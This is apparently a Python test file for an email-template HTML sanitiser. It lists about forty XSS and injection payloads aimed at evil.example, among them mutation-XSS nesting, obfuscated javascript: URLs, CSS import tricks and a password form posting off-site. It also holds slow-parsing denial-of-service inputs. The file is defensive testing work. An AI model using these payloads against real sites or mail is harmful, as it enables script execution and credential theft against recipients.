"""HTML of a store that may go into an email."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaign_templates.sanitising import sanitise
from tests.builders.html_reader import HtmlReader

# Each is written to run something, or to load something that no email should.
ATTACKS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<img src=x onerror\n=steal()>",
    "<body onload=steal()>",
    "<svg onload=steal()><animate onbegin=steal()></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=steal()>",
    "<a href='javascript:steal()'>x</a>",
    "<a href='java&#x0A;script:steal()'>x</a>",
    "<a href='&#106;avascript:steal()'>x</a>",
    "<a href=' \x01javascript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<a href='vbscript:steal()'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@\\69mport 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:steal())'>x</p>",
    "<p style='width:exp/**/ression(steal())'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<template><img src=x onerror=steal()></template>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'></textarea>",
    "<title><img src=x onerror=steal()></title>",
    "<xmp><img src=x onerror=steal()></xmp>",
    "<!--[if mso]><script>steal()</script><![endif]-->",
    "<!--><img src=x onerror=steal()>-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<p title='\"><script>steal()</script>'>x</p>",
    "<a target=_top href=https://evil.example>x</a>",
    "<video src=x onerror=steal()><source src=x></video>",
    "<plaintext><img src=x onerror=steal()>",
    "<img src='x' srcset='https://evil.example 1x'>",
    "<button formaction=javascript:steal()>x</button>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack):
    result = sanitise(f"<p>before</p>{attack}<p>after</p>").html

    assert HtmlReader(result).found == []
    assert "<p>before</p>" in result
    assert "@import" not in result
    assert "evil.example'" not in result


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", "'", '"', "=", "/", "<!--", "-->", "a"])))
def test_no_mixture_of_attacks_leaves_anything(parts):
    assert HtmlReader(sanitise("".join(parts)).html).found == []


@given(st.text(alphabet="<>/=\"' abpisrc!-&;:{}\n", max_size=80))
def test_a_result_is_not_changed_by_another_pass(text):
    once = sanitise(text).html

    assert sanitise(once).html == once


def test_an_ordinary_email_stays_as_it_is():
    email = (
        '<head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
        "<title>News</title><style>@media (max-width: 600px) { td { width: 100% } }</style></head>"
        '<body bgcolor="#ffffff" style="margin: 0"><table role="presentation" width="600" '
        'cellpadding="0"><tbody><tr><td align="center" style="color: #333; background: '
        'url(https://cdn.example.com/a.png)"><a href="https://www.example.com/?a=1&amp;b=2" '
        'ses:tags="link:start;">Start</a> <img src="cid:logo" alt="Logo" width="10">'
        '<a href="mailto:help@example.com">Help</a></td></tr></tbody></table></body>'
    )

    assert sanitise(email).html == email
    assert sanitise(email).removed == 0


def test_the_shell_of_the_campaign_keeps_the_only_html_element():
    result = sanitise("<!DOCTYPE html><html lang='de'><head></head><body>Hi</body></html>").html

    assert f"<html>{result}</html>" == "<html><head></head><body>Hi</body></html>"


def test_an_element_that_is_not_closed_does_not_swallow_the_footer_of_the_shell():
    assert sanitise("<div><b>Hi").html == "<div><b>Hi</b></div>"
    assert sanitise("</div></table></html>Hi").html == "Hi"
    assert sanitise("<style>p { color: red }").html.endswith("</style>")


def test_what_is_left_out_is_counted():
    assert sanitise("<p onclick=x><script>y</script><blink>z</blink></p>").removed == 3


def test_text_is_text():
    assert sanitise("1 < 2 &amp; 3 &gt; 2 &eacute;").html == "1 &lt; 2 &amp; 3 &gt; 2 é"


@pytest.mark.parametrize("end", ["", ">", "'>", "-->"])
@pytest.mark.parametrize(
    "part", ["<", "<!--", "<a ", "<a x=", "<a x='", "&#", "<![CDATA[", "</", "<style>", "<p><i>"]
)
def test_a_part_that_is_repeated_takes_no_longer_than_others(part, end):
    began = time.process_time()

    sanitise(part * (20_000 // len(part)) + end)

    assert time.process_time() - began < 2  # half a minute, before tags had to be whole


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 40_000 + "</i>" * 40_000,
        "<svg>" * 40_000 + "</math>" * 40_000,
        "<style>" + "url(" * 20_000 + "</style>",
        f'<p style="url({" " * 9_000}">x</p>',
        f"<style>url({' ' * 20_000}</style>",
        "<style>" + "url('" * 20_000 + "</style>",
        "<!" * 150_000,
        "<a " * 150_000,
        '<a "' * 150_000,
        "<style>" + "</styl" * 50_000,
    ],
    ids=lambda html: html[:12],
)
def test_html_that_is_written_to_be_slow_takes_no_longer_than_others(html):
    began = time.process_time()

    sanitise(html)

    assert time.process_time() - began < 2  # minutes to hours, before each part was read once


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("a { background: url(https://cdn.example.com/a.png) }", True),
        ("a { background: url( 'https://cdn.example.com/a(1).png' ) }", True),
        ('a { background: url("cid:logo"), url(data:image/png;base64,AAAA) }', True),
        ("a { background: url(javascript:steal()) }", False),
        ("a { background: url('https://cdn.example.com/a.png'), url(//evil.example) }", False),
        ("a { background: url (file:///etc/passwd) }", False),
        ("a { background: url('https://cdn.example.com/a.png }", False),
        ("a { background: url(https://cdn.example.com/a'.png) }", False),
        ("a { background: url() }", False),
    ],
)
def test_a_style_sheet_is_kept_where_each_of_its_urls_can_be_read_and_is_safe(css, kept):
    assert sanitise(f"<style>{css}</style>").html == f"<style>{css if kept else ''}</style>"
